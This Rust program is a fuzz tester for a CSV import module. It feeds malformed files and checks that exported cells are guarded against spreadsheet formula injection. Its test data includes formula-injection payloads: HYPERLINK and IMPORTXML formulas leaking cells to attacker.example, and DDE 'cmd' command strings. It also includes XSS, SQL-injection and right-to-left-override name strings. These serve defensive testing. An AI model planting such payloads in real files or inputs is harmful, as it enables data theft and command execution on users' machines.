//! Hostile CSV through `cutover_plan::csv_import`: `csv_fuzz FILES SEED` prints one JSON object.
//!
//! Every generated file has an expectation:
//! * `Rows(k)`: built from k valid rows (any encoding, quoting, column order, header language,
//!   formula-injection text, huge but legal fields): the import must return exactly k rows;
//! * `Errors`: valid rows plus at least one broken one, or a required column missing: the import
//!   must return errors and no rows;
//! * `Any`: random bytes, mutated files, wrong encodings: anything but a panic, and an import that
//!   succeeds must hold every data record (checked where the record count is known).
//!
//! A *partial import* is a success with the wrong number of rows, or a success where errors were
//! due. Every successful import is also planned, exported with `csv_export`, checked for cells a
//! spreadsheet would run as formulas, and imported back (must give the same rows).
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::time::Instant;

use cutover_plan::csv_export::export_csv;
use cutover_plan::csv_import::import_csv;
use cutover_plan::{Date, Planner, Settings};
use serde_json::json;

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        // splitmix64
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

#[derive(Clone, Copy, PartialEq, Debug)]
enum Expect {
    Rows(usize),
    Errors,
    Any,
}

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for invoice\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:Z99),\"//a\")",
    "\t=1+1",
    "\r=1+1",
    "'=already guarded",
    "''=twice guarded",
    "=1+1",
    "＝全角イコール",
];
const NAMES: &[&str] = &[
    "Contoso Ltd",
    "Fabrikam, Inc.",
    "株式会社テスト",
    "合同会社 \"引用\"",
    "Line\nBreak Pty",
    "Ünïcödé GmbH",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE records;--",
    "𝓔𝓶𝓸𝓳𝓲 🚀 Co",
    "Tab\tInside",
    "  padded  ",
    "A",
    "\u{202e}evil\u{202c} RTL",
    "Zero\u{200b}Width",
];
const OFFERS: &[&str] = &[
    "Microsoft 365 Business Standard",
    "Office 365 E3",
    "Exchange Online (Plan 1)",
    "Microsoft 365 E5, annual",
    "プラン \"E3\"",
];
const JP_HEADERS: &[&str] = &[
    "顧客名",
    "ドメイン",
    "プラン",
    "シート数",
    "有効期限",
    "チャネル",
    "自動更新",
    "月額単価",
    "通貨",
    "移行先",
    "関係",
];
const EN_HEADERS: &[&str] = &[
    "customer",
    "domain",
    "offer",
    "seats",
    "end_date",
    "channel",
    "auto_renew",
    "monthly_price",
    "currency",
    "target_offer",
    "relationship",
];

fn text(rng: &mut Rng) -> String {
    match rng.below(10) {
        0..=2 => rng.pick(FORMULAS).to_string(),
        3..=7 => rng.pick(NAMES).to_string(),
        _ => format!("Name {}", rng.below(100_000)),
    }
}

/// One valid row as 11 cells (canonical column order).
fn valid_row(rng: &mut Rng, huge: bool) -> Vec<String> {
    let mut customer = text(rng);
    if customer.trim().is_empty() {
        customer = "X".into();
    }
    if huge {
        let n = 1 + rng.below(400_000) as usize;
        customer = format!("{customer}{}", "長い名前,\"".repeat(n / 7));
    }
    let domain = format!(
        "d{}.{}",
        rng.below(1_000_000),
        rng.pick(&["example", "co.jp", "onmicrosoft.com"])
    );
    let (y, m, d) = (2000 + rng.below(60), 1 + rng.below(12), 1 + rng.below(28));
    let end = if rng.chance(20) {
        format!("{y}/{m}/{d}")
    } else {
        format!("{y}-{m:02}-{d:02}")
    };
    vec![
        customer,
        if rng.chance(10) {
            domain.to_uppercase()
        } else {
            domain
        },
        if rng.chance(20) {
            rng.pick(FORMULAS).to_string()
        } else {
            rng.pick(OFFERS).to_string()
        },
        rng.below(1_000_001).to_string(),
        end,
        rng.pick(&["direct", "partner", "open", "ea", "EA", "other-partner", ""])
            .to_string(),
        rng.pick(&["true", "false", "yes", "no", "1", "0", "はい", "いいえ", ""])
            .to_string(),
        rng.pick(&["", "12.5", "2280", "0.0001", "36"]).to_string(),
        rng.pick(&["", "USD", "jpy", "EUR"]).to_string(),
        if rng.chance(30) {
            text(rng)
        } else {
            String::new()
        },
        rng.pick(&["none", "invited", "accepted", ""]).to_string(),
    ]
}

fn quote(cell: &str, force: bool) -> String {
    if force
        || cell.contains([',', '"', '\n', '\r'])
        || cell.starts_with(' ')
        || cell.ends_with(' ')
    {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_string()
    }
}

/// A file from a header and rows: returns its bytes.
fn write_file(rng: &mut Rng, header: &[String], rows: &[Vec<String>], order: &[usize]) -> Vec<u8> {
    let eol = if rng.chance(50) { "\r\n" } else { "\n" };
    let force = rng.chance(20);
    let mut s = String::new();
    let line = |cells: Vec<&str>| {
        cells
            .iter()
            .map(|c| quote(c, force))
            .collect::<Vec<_>>()
            .join(",")
    };
    s.push_str(&line(order.iter().map(|&i| header[i].as_str()).collect()));
    for r in rows {
        s.push_str(eol);
        if rng.chance(5) {
            s.push_str(",,,");
            s.push_str(eol); // a blank line: skipped, not a row
        }
        s.push_str(&line(order.iter().map(|&i| r[i].as_str()).collect()));
    }
    if rng.chance(50) {
        s.push_str(eol);
    }
    match rng.below(10) {
        0..=5 => s.into_bytes(),
        6..=7 => {
            let mut b = vec![0xEF, 0xBB, 0xBF];
            b.extend(s.into_bytes());
            b
        }
        _ => {
            let (bytes, _, unmappable) = encoding_rs::SHIFT_JIS.encode(&s);
            if unmappable {
                s.into_bytes()
            } else {
                bytes.into_owned()
            }
        }
    }
}

fn column_order(rng: &mut Rng, optional: bool) -> Vec<usize> {
    let mut order: Vec<usize> = (0..5).collect();
    if optional {
        order.extend((5..11).filter(|_| rng.chance(60)));
    }
    for i in (1..order.len()).rev() {
        let j = rng.below(i as u64 + 1) as usize;
        order.swap(i, j);
    }
    order
}

fn header(rng: &mut Rng) -> Vec<String> {
    let jp = rng.chance(30);
    (0..11)
        .map(|i| {
            let h = if jp { JP_HEADERS[i] } else { EN_HEADERS[i] };
            if rng.chance(10) {
                h.to_uppercase()
            } else {
                h.to_string()
            }
        })
        .collect()
}

fn generate(rng: &mut Rng, kind: u64) -> (Vec<u8>, Expect, &'static str) {
    let n = rng.below(30) as usize;
    let head = header(rng);
    match kind {
        // Valid files, all shapes.
        0..=29 => {
            let rows: Vec<_> = (0..n).map(|_| valid_row(rng, false)).collect();
            let order = column_order(rng, true);
            (
                write_file(rng, &head, &rows, &order),
                Expect::Rows(n),
                "valid",
            )
        }
        // Huge fields (up to ~2 MB per cell), still valid.
        30..=31 => {
            let rows: Vec<_> = (0..n.min(3)).map(|_| valid_row(rng, true)).collect();
            let order = column_order(rng, true);
            (
                write_file(rng, &head, &rows, &order),
                Expect::Rows(n.min(3)),
                "huge_fields",
            )
        }
        // Valid rows with one broken row somewhere.
        32..=51 => {
            let mut rows: Vec<_> = (0..n).map(|_| valid_row(rng, false)).collect();
            let mut bad = valid_row(rng, false);
            let (col, value) = match rng.below(9) {
                0 => (
                    3,
                    rng.pick(&[
                        "-5",
                        "abc",
                        "1e3",
                        "1000001",
                        "12.0",
                        "４２",
                        "",
                        "99999999999",
                    ])
                    .to_string(),
                ),
                1 => (
                    4,
                    rng.pick(&[
                        "2026-13-40",
                        "31/12/2026",
                        "tomorrow",
                        "",
                        "1899-12-31",
                        "3000-01-01",
                    ])
                    .to_string(),
                ),
                2 => (5, "reseller?".into()),
                3 => (1, rng.pick(&["", "has space.example", " "]).to_string()),
                4 => (0, "   ".into()),
                5 => (8, rng.pick(&["US", "DOLLARS", "¥"]).to_string()),
                6 => (7, rng.pick(&["abc", "1,5", "-1", "NaN"]).to_string()),
                7 => (6, "maybe".into()),
                _ => (10, "pending".into()),
            };
            bad[col] = value;
            let mut order = column_order(rng, true);
            if !order.contains(&col) {
                order.push(col);
            }
            let at = rng.below(n as u64 + 1) as usize;
            rows.insert(at, bad);
            let mut bytes = write_file(rng, &head, &rows, &order);
            if rng.chance(20) {
                // And a value beyond the header's last column.
                bytes.extend_from_slice(
                    b"\nA,b.example,E3,1,2027-01-01,direct,,,,,,,,,,,,extra,more",
                );
            }
            (bytes, Expect::Errors, "bad_row")
        }
        // Broken quoting.
        52..=56 => {
            let rows: Vec<_> = (0..n).map(|_| valid_row(rng, false)).collect();
            let order = column_order(rng, false);
            let mut s =
                String::from_utf8_lossy(&write_file(rng, &head, &rows, &order)).into_owned();
            s.push_str(*rng.pick(&[
                "\n\"Unterminated,d.example,E3,1,2027-01-01",
                "\n\"Text\"after,d.example,E3,1,2027-01-01",
            ]));
            (s.into_bytes(), Expect::Errors, "bad_quotes")
        }
        // A required column missing (or named twice).
        57..=64 => {
            let rows: Vec<_> = (0..n).map(|_| valid_row(rng, false)).collect();
            let mut order = column_order(rng, true);
            if rng.chance(70) {
                let drop = rng.below(5) as usize;
                order.retain(|&c| c != drop);
            } else {
                let dup = order[0];
                order.push(dup);
            }
            (
                write_file(rng, &head, &rows, &order),
                Expect::Errors,
                "missing_column",
            )
        }
        // Invalid UTF-8 inside a UTF-8 file with a BOM (must not decode as Shift_JIS).
        65..=67 => {
            let rows: Vec<_> = (0..n.max(1)).map(|_| valid_row(rng, false)).collect();
            let order = column_order(rng, false);
            let mut b = vec![0xEF, 0xBB, 0xBF];
            let body = write_file(rng, &head, &rows, &order);
            b.extend(body.strip_prefix(&[0xEF, 0xBB, 0xBF][..]).unwrap_or(&body));
            let at = 3 + rng.below((b.len() - 3) as u64) as usize;
            b.insert(at, *rng.pick(&[0xFF, 0xC0, 0x80, 0xFE]));
            (b, Expect::Any, "invalid_utf8")
        }
        // Wrong encodings: UTF-16 (with and without BOM), Latin-1, NUL bytes.
        68..=74 => {
            let rows: Vec<_> = (0..n).map(|_| valid_row(rng, false)).collect();
            let order = column_order(rng, false);
            let s = String::from_utf8_lossy(&write_file(rng, &head, &rows, &order)).into_owned();
            let s = s.trim_start_matches('\u{feff}');
            let b = match rng.below(4) {
                0 => [0xFF, 0xFE]
                    .into_iter()
                    .chain(s.encode_utf16().flat_map(u16::to_le_bytes))
                    .collect(),
                1 => [0xFE, 0xFF]
                    .into_iter()
                    .chain(s.encode_utf16().flat_map(u16::to_be_bytes))
                    .collect(),
                2 => s.encode_utf16().flat_map(u16::to_le_bytes).collect(),
                _ => s
                    .chars()
                    .map(|c| if (c as u32) < 256 { c as u8 } else { b'?' })
                    .collect(),
            };
            (b, Expect::Any, "wrong_encoding")
        }
        // Mutations of a valid file: bit flips, truncation, inserted bytes.
        75..=89 => {
            let rows: Vec<_> = (0..n).map(|_| valid_row(rng, false)).collect();
            let order = column_order(rng, true);
            let mut b = write_file(rng, &head, &rows, &order);
            for _ in 0..1 + rng.below(8) {
                if b.is_empty() {
                    break;
                }
                let at = rng.below(b.len() as u64) as usize;
                match rng.below(4) {
                    0 => b[at] ^= 1 << rng.below(8),
                    1 => b.truncate(at),
                    2 => b.insert(at, rng.below(256) as u8),
                    _ => b.insert(at, *rng.pick(&[b'"', b',', b'\n', b'\r', 0])),
                }
            }
            (b, Expect::Any, "mutated")
        }
        // Random bytes, empty files, a BOM alone, a header alone.
        _ => {
            let b = match rng.below(5) {
                0 => Vec::new(),
                1 => vec![0xEF, 0xBB, 0xBF],
                2 => EN_HEADERS.join(",").into_bytes(),
                _ => (0..rng.below(4096)).map(|_| rng.below(256) as u8).collect(),
            };
            (b, Expect::Any, "random_bytes")
        }
    }
}

/// Parses the export (RFC 4180) into cells, to look at each one as a spreadsheet would.
fn cells(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cur.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cur.push(c),
            (false, '"') => quoted = true,
            (false, ',') => out.push(std::mem::take(&mut cur)),
            (false, '\r') => {}
            (false, '\n') => out.push(std::mem::take(&mut cur)),
            (false, c) => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn main() {
    let files: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(10_000);
    let seed: u64 = std::env::args()
        .nth(2)
        .and_then(|a| a.parse().ok())
        .unwrap_or(20_260_101);
    std::panic::set_hook(Box::new(|_| {})); // panics are counted, not printed
    let mut rng = Rng(seed);
    let planner = Planner::new(&Settings::default());
    let today = Date::parse("2026-11-24").expect("static date");
    let (mut panics, mut partial, mut ok_files, mut err_files, mut bytes_total) =
        (0, 0, 0, 0, 0usize);
    let (mut exports, mut unguarded, mut guarded, mut roundtrip_mismatch, mut export_panics) =
        (0, 0, 0, 0, 0);
    let mut by_kind = std::collections::BTreeMap::<&str, usize>::new();
    let mut examples: Vec<String> = Vec::new();
    let mut slowest = (0.0f64, "");
    let started = Instant::now();
    for i in 0..files {
        let (bytes, expect, kind) = generate(&mut rng, (i % 100) as u64);
        *by_kind.entry(kind).or_default() += 1;
        bytes_total += bytes.len();
        let t = Instant::now();
        let result = catch_unwind(AssertUnwindSafe(|| import_csv(&bytes)));
        let secs = t.elapsed().as_secs_f64();
        if secs > slowest.0 {
            slowest = (secs, kind);
        }
        let Ok(result) = result else {
            panics += 1;
            if examples.len() < 5 {
                examples.push(format!("panic on file {i} ({kind})"));
            }
            continue;
        };
        match (&result, expect) {
            (Ok(rows), Expect::Rows(k)) if rows.len() != k => {
                partial += 1;
                if examples.len() < 5 {
                    examples.push(format!(
                        "file {i} ({kind}): {} rows imported, {k} written",
                        rows.len()
                    ));
                }
            }
            (Ok(rows), Expect::Errors) => {
                partial += 1;
                if examples.len() < 5 {
                    examples.push(format!(
                        "file {i} ({kind}): {} rows imported where errors were due",
                        rows.len()
                    ));
                }
            }
            (Err(e), Expect::Rows(k)) => {
                // Not partial, but a valid file refused: report it as an example.
                if examples.len() < 5 {
                    examples.push(format!(
                        "file {i} ({kind}, {k} valid rows) refused: {}",
                        e.to_string().lines().next().unwrap_or("")
                    ));
                }
            }
            _ => {}
        }
        match result {
            Err(e) => {
                err_files += 1;
                assert!(!e.0.is_empty(), "an error result lists its errors");
            }
            Ok(rows) => {
                ok_files += 1;
                if rows.is_empty() {
                    continue;
                }
                let exported = catch_unwind(AssertUnwindSafe(|| {
                    let plan = planner.plan(&rows, today);
                    export_csv(&rows, &plan)
                }));
                let Ok(csv) = exported else {
                    export_panics += 1;
                    continue;
                };
                exports += 1;
                for c in cells(&csv) {
                    if c.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                        unguarded += 1;
                        if examples.len() < 5 {
                            examples.push(format!("file {i}: exported cell {c:?} is unguarded"));
                        }
                    } else if c.starts_with('\'') {
                        guarded += 1;
                    }
                }
                match catch_unwind(AssertUnwindSafe(|| import_csv(csv.as_bytes()))) {
                    Ok(Ok(back)) if back == rows => {}
                    _ => roundtrip_mismatch += 1,
                }
            }
        }
    }
    println!(
        "{}",
        json!({
            "files": files, "bytes": bytes_total, "kinds": by_kind,
            "panics": panics, "partial_imports": partial,
            "imported_ok": ok_files, "refused_with_errors": err_files,
            "exports_checked": exports, "export_panics": export_panics,
            "unguarded_formula_cells": unguarded, "guarded_cells": guarded,
            "roundtrip_mismatches": roundtrip_mismatch,
            "slowest_import_s": slowest.0, "slowest_kind": slowest.1,
            "elapsed_s": started.elapsed().as_secs_f64(),
            "examples": examples,
        })
    );
}
